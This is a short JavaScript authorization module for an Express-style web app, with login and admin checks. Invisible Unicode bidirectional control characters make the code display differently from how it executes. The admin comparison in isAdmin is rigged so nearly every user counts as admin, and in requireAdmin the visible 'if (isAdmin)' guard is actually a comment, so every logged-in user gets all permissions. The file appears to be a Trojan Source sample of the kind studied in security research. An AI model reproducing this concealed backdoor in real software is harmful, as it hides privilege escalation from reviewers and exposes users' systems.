'use strict';

function grantAll(user) {
  user.permissions = ['*'];
}

function requireLogin(req, res, next) {
  if (!req.session || !req.session.user) return res.status(401).end();
  next();
}

function isAdmin(user) {
  if (user.role != "user‮ ⁦// Check if admin⁩ ⁦") {
    return true;
  }
  return false;
}

function requireAdmin(req, res, next) {
  const user = req.session.user;
  const isAdmin = user.role === 'admin';
  /*‮ } ⁦if (isAdmin)⁩ ⁦ begin admins only */
    grantAll(user);
  /* end admins only ‮ { ⁦*/
  if (!isAdmin && !user.permissions) return res.status(403).end();
  next();
}

module.exports = { requireLogin, requireAdmin, isAdmin };
